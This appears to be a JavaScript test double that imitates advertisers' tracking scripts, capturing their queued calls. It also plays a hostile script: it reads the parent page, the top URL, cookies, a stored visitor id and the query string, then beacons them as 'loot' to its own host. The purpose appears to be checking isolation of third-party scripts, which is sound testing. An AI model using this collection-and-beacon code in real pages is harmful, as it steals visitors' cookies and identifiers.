// Plays every advertiser's script for tests: it takes over its queue, reports each call to its own host as its real one does,
// and meanwhile tries what a hostile script would.
(() => {
  const { origin } = new URL(document.currentScript.src);
  const report = (what, value) => {
    new Image().src = `${origin}/${what}?d=${encodeURIComponent(JSON.stringify(value))}`;
  };
  const found = {};
  const look = (name, read) => {
    try {
      found[name] = String(read());
    } catch (error) {
      found[name] = error.name;
    }
  };
  look('parent', () => parent.document.body.innerHTML);
  look('top', () => top.location.href);
  look('cookie', () => document.cookie);
  look('visitor', () => localStorage.getItem('foyer.visitor'));
  look('origin', () => self.origin);
  look('address', () => location.search);
  report('loot', found);

  const tell = (...call) => report('told', call);
  const takeQueue = (name, method, list) => {
    const queue = window[name];
    if (!queue || queue[method]) return;
    queue[method] = tell;
    for (const call of queue[list].splice(0)) tell(...call);
  };
  const takeOver = (list) => {
    if (!list || list.push === tell) return;
    list.splice(0).forEach((call) => tell(call));
    list.push = tell;
  };
  const takeList = (name) => takeOver(window[name]);
  const takeInstances = (name) => {
    takeList(name);
    Object.values(window[name]?._i ?? {}).forEach(takeOver);
  };
  if (origin.includes('facebook')) takeQueue('fbq', 'callMethod', 'queue');
  if (origin.includes('twitter')) takeQueue('twq', 'exe', 'queue');
  if (origin.includes('googletagmanager')) {
    // As Google's tag answers what it is asked for.
    for (const [command, , field, answer] of [...(window.dataLayer ?? [])].map((call) => Array.from(call)))
      if (command === 'get' && field === 'session_id') answer('1795000000');
    takeList('dataLayer');
  }
  if (origin.includes('imotech')) takeList('bgdataLayer');
  if (origin.includes('tiktok')) takeInstances('ttq');
  if (origin.includes('ap4r')) takeInstances('kwaiq');
  if (origin.includes('appsflyer')) {
    window.AF.q.splice(0).forEach((call) => tell(...call));
    window.AF = tell;
  }
  if (origin.includes('adjust')) window.Adjust = { initSdk: tell, trackEvent: tell };
})();
